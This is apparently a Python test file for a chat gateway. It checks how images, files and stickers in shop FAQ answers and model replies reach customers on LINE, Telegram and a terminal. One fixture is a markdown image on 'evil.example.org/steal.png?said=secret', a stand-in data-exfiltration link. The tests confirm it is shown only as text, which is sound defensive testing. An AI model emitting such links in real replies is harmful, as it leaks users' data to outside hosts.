"""Pictures, files and stickers on their way to a customer, on each platform."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from gateway import assembly
from gateway.adapters.terminal import answers
from gateway.inbox.base import Policy
from gateway.inbox.redis import RedisInbox
from gateway.messages import InboundMessage
from gateway.rendering import render_terminal
from tests.house import LLM_KEY, House, house, shop
from tests.standins import Fault

ANN = "U" + "a" * 32
PARKING = "Is there a car park?"
MAP, PLAN = "https://www.example.com/map.png", "https://www.example.com/plan.pdf"
CAKE, ODD = "https://img.example.com/cake.jpg", "https://evil.example.org/steal.png?said=secret"
SAID = f"Today's cake:\n\n![Cake]({CAKE})\n\nAnd ![this]({ODD})."


def bakery() -> dict[str, Any]:
    media = [
        {"file": PLAN, "name": "Plan"},
        {"sticker": {"package": "446", "id": "1988"}},
    ]
    return shop(
        faq=[{"questions": [PARKING], "answer": f"Behind the shop.\n\n![Map]({MAP})", "media": media}],
        image_hosts=["img.example.com"],
        understanding={"policy": "never"},
    )


def on_line(home: House) -> list[str]:
    shown = [one.message for one in home.line.delivered.get(ANN, [])]
    return [str(one.get("text") or one.get("originalContentUrl") or one.get("stickerId")) for one in shown]


def on_telegram(home: House) -> list[tuple[str, str | None]]:
    return [(one.text, one.media) for one in home.telegram.delivered.get("55", [])]


async def test_line_shows_them_in_one_free_call(tmp_path: Path, redis_url: str) -> None:
    async with house(tmp_path, redis_url, {"shop": bakery()}, llm_key=LLM_KEY) as home:
        home.llm.answers(lambda request: SAID)
        await home.line_says(ANN, PARKING)
        faq = ["Behind the shop.", MAP, f"Plan ({PLAN})", "1988"]
        await home.line.until(lambda: on_line(home) == faq)
        await home.line_says(ANN, "Which cake do you have today?")
        await home.line.until(lambda: on_line(home)[4:] == ["Today's cake:", CAKE, "And this."])
        # LINE does not like the picture: the customer has its address by the same token.
        details = [{"message": "invalid uri", "property": "messages[1].originalContentUrl"}]
        home.line.next(Fault(400, {"message": "The request body has 1 error(s)", "details": details}, on="/reply"))
        await home.line_says(ANN, "And which cake tomorrow, please?")
        await home.line.until(lambda: on_line(home)[7:] == ["Today's cake:", CAKE, "And this."])
        await home.quiet()
        assert [one.message["type"] for one in home.line.delivered[ANN]][7:] == ["text", "text", "text"]
        assert {one.via for one in home.line.delivered[ANN]} == {"reply"}


async def test_telegram_shows_them_and_links_what_it_can_not_fetch(tmp_path: Path, redis_url: str) -> None:
    async with house(tmp_path, redis_url, {"shop": bakery()}, llm_key=LLM_KEY) as home:
        home.llm.answers(lambda request: SAID)
        await home.telegram_says(55, PARKING)
        faq = [("Behind the shop.", None), ("Map", MAP), ("Plan", PLAN)]
        await home.telegram.until(lambda: on_telegram(home) == faq)
        home.telegram.unfetchable.add(CAKE)
        await home.telegram_says(55, "Which cake do you have today?")
        cake = [("Today's cake:", None), (f"Cake ({CAKE})", None), ("And this.", None)]
        await home.telegram.until(lambda: on_telegram(home)[3:] == cake)
        await home.quiet()


async def test_the_terminal_tells_them(tmp_path: Path, redis_url: str) -> None:
    async with house(tmp_path, redis_url, {"shop": bakery()}) as home:
        client = assembly.inbox_client(home.settings, redis_url)
        inbox = RedisInbox(client, "terminal")
        message = InboundMessage(
            tenant="shop",
            channel="terminal",
            platform="terminal",
            event_id="1",
            user_id="terminal:ann",
            chat_id="ann",
            text=PARKING,
            received_at=assembly.utc_now().timestamp(),
        )
        await inbox.put([(message, Policy())])
        line = None
        async for line in answers(client, "shop", "ann"):
            if line is not None:
                break
        await inbox.close()
    assert line is not None
    shown = render_terminal(line.text, None, False)
    assert shown == f"Behind the shop.\n\nMap ({MAP})\n\nPlan ({PLAN})\n\n[sticker 446/1988]"


async def test_a_model_may_show_the_pictures_of_the_shops_answers_that_it_is_told(
    tmp_path: Path, redis_url: str
) -> None:
    menu, other = (
        "https://static.example.net/menu.png?v=2&w=800",
        "https://static.example.net/menu.png?v=2&w=800&said=x",
    )
    entry = {"questions": ["Can I see the menu?"], "answer": "Here it is.", "media": [{"image": menu, "name": "Menu"}]}
    async with house(tmp_path, redis_url, {"shop": bakery() | {"faq": [entry]}}, llm_key=LLM_KEY) as home:
        asked: list[str] = []

        def answers(request: dict[str, Any]) -> str:
            asked.append(str(request["messages"]))
            return f"Have a look:\n\n![Menu]({menu})\n\n![Menu]({other})"

        home.llm.answers(answers)
        await home.line_says(ANN, "I wonder whether there is anything sweet on the menu for my two children tomorrow")
        await home.quiet()
        assert on_line(home) == ["Have a look:", menu, f"Menu ({other})"]
        assert "Picture to show: ![Menu](https://static.example.net/menu.png?v=2&amp;w=800)" in asked[0]
